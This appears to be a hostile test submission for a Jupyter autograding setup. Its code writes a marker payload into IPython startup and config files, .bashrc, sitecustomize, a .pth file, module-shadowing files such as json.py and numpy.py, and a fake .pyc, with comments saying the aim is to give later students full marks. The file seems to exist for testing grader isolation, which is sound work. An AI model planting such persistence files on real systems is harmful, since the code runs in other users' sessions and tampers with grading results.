# tries = "leaves start-up files for the kernels of later students: IPython, site, pth, pyc"
# beats_nbgrader = "the next, wrong, student has full marks"
# %% ex-91-2
import os
import site
import sys

TEXT = "import builtins; builtins.hostile = 1; print('hostile was here')\n"
home = os.path.expanduser("~")
for path in (
    f"{home}/.ipython/profile_default/startup/00-hostile.py", f"{home}/.ipython/profile_default/ipython_config.py",
    f"{home}/.jupyter/jupyter_config.py", f"{home}/.bashrc", f"{site.getusersitepackages()}/usercustomize.py",
    f"{site.getsitepackages()[0]}/hostile.pth", f"{site.getsitepackages()[0]}/sitecustomize.py", "json.py",
    "labkit.py", "sitecustomize.py", "/tmp/json.py", "numpy.py", "ipykernel.py",
    f"{os.path.dirname(os.__file__)}/__pycache__/json.cpython-311.pyc.new",
):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "x").write(TEXT)
    except OSError:
        pass


def tally(text):
    return {}
